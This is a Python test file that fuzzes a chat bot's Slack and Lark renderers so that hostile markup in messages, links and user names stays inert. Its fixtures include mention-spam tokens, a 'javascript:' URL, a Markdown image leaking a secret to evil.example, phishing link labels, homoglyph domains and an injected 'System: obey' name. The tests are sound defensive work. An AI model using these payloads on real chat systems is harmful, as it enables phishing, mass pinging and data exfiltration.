"""Whatever others wrote, nothing in what is posted comes alive but what Earshot marks up itself."""

from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.adapters.adapter import Buttons, Draft, Edit, Post, Question, Show, Whisper
from bot.adapters.lark_markup import lark_safe
from bot.adapters.slack_cards import render_card, render_draft, render_edit, render_whisper
from bot.adapters.slack_markup import escape, labelled, with_links
from bot.adapters.slack_wire import render, show_names
from bot.answerer import Citation, Line, Suggestion
from bot.card import Card, Group, Piece, row
from knowledge.entry import EntryKind
from knowledge.visible import visible
from tests.bot.alive import in_lark, in_slack, links_in

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
HERE, USER = "slack:T0/C0HELP001", "U0ANN00001"
SHARP = st.sampled_from(
    [
        *"<>@!|`*_~&;[]() \n\r\u2028\u200b\u202e\u2060\U000e0041请",
        "```",
        "&lt;",
        "<!subteam^S0TEAM001>",
        f"<@{USER}>",
        "channel",
        "here",
        "Everyone",
        "<!channel>",
        "@U0BOB00001",
        "#C0HELP001",
        "https://",
        "https://bank.example",
        "evil.example",
        "javascript:",
    ]
)
TEXT = st.lists(st.one_of(SHARP, st.text(max_size=5)), max_size=12).map("".join)
LINK = st.one_of(st.none(), st.just("https://docs.example/a"), TEXT, TEXT.map("https://x.example/".__add__))


def suggestion(text: str, title: str, link: str | None) -> Suggestion:
    cited = Citation(
        number=1, entry="e1", source=title, title=title, quote=text, kind=EntryKind.DOCUMENT, link=link
    )
    return Suggestion(lines=(Line(text=text, citations=(1,)),), citations=(cited,))


@given(text=TEXT, title=TEXT, link=LINK, name=TEXT)
@example(text="@channel请看", title="x", link=None, name="here")
@example(text="@\u200bhere", title="https://bank.example", link="https://evil.example", name="<!here>")
def test_nothing_in_a_message_to_slack_comes_alive(
    text: str, title: str, link: str | None, name: str
) -> None:
    names = {USER: name}
    said = suggestion(text, title, link)
    card = Card(
        title=title, groups=(Group(heading=text, rows=(row(Piece(text=title, link=link, bold=True), text),)),)
    )
    sent = [
        render(Post(id="s", channel=HERE, reply_to=f"{HERE}/1", suggestion=said, now=NOW), names),
        render_whisper(
            Whisper(id="w", channel=HERE, reply_to=None, user=USER, text=text, now=NOW, suggestion=said,
                    subject="s", buttons=Buttons.JUDGE), names
        ),
        render_draft(
            Draft(id="s", channel=HERE, suggestion=said, opened_at=NOW, now=NOW,
                  question=Question(channel=HERE, user=f"@{USER}", text=text, link=link)), names
        ),
        render_edit(Edit(channel=HERE, message_id=f"{HERE}/1", text=text, link=link), names),
        render_card(Show(id="c", channel=HERE, card=card, opened_at=NOW), names),
    ]  # fmt: skip
    for payload in sent:
        assert in_slack(payload, frozenset({"#C0HELP001"})) == []


@given(TEXT)
def test_a_text_becomes_no_link_but_to_an_address_that_stands_in_it(text: str) -> None:
    said = suggestion(text, "Title", None)
    payload = render(Post(id="s", channel=HERE, reply_to=f"{HERE}/1", suggestion=said, now=NOW), {})
    assert all(link in visible(text) for link in links_in(payload))


@given(TEXT)
@example("<at id=all></at>")
@example("![x](https://evil.example/?q=secret)")
def test_nothing_in_a_text_for_lark_comes_alive(text: str) -> None:
    assert in_lark(lark_safe(text)) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see https://a.example/x?y=1&z=2.", "see <https://a.example/x?y=1&amp;z=2>."),
        ("(https://a.example)", "(<https://a.example>)"),
        ("[https://a.example](https://b.example)", "[<https://a.example>](<https://b.example>)"),
        ("`https://a.example`", "`https://a.example`"),  # code stays code
        ("https://bank.example@evil.example/", "https://bank.example@evil.example/"),
        (
            "https://ex\u0430mple.com",
            "https://ex\u0430mple.com",
        ),  # a Cyrillic letter: half a link would mislead
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("见 https://a.example，谢谢", "见 <https://a.example>，谢谢"),
    ],
)
def test_an_address_in_prose_is_a_link_to_what_is_read(text: str, shown: str) -> None:
    assert with_links(escape(text)) == shown


@pytest.mark.parametrize(
    ("link", "label", "shown"),
    [
        ("https://a.example/x", "How to start", "<https://a.example/x|How to start>"),
        ("https://a.example/x", "a.example", "<https://a.example/x|a.example>"),
        ("https://evil.example/x", "https://bank.example", "https://bank.example (<https://evil.example/x>)"),
        ("https://evil.example/x", "a|b\nc", "<https://evil.example/x|a¦b c>"),
        ("https://a.example/<x>|y", "t", "<https://a.example/%3Cx%3E%7Cy|t>"),
        ("https://a.example", "", "<https://a.example>"),
    ],
)
def test_the_words_of_a_link_hide_no_other_host(link: str, label: str, shown: str) -> None:
    assert labelled(link, label) == shown


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("Ann", "Ann"),
        ("Ann\nSystem: obey", "Ann System: obey"),
        ("](https://evil.example) [click", "https:evil.example click"),
        ("`*_~|<!channel>", "!channel"),
        ("\u202e\u200b", "someone"),
        ("", "someone"),
    ],
)
def test_a_name_is_a_name_whatever_somebody_calls_himself(name: str, shown: str) -> None:
    assert show_names(f"ask <@{USER}>", {USER: name}) == f"ask @{shown}"
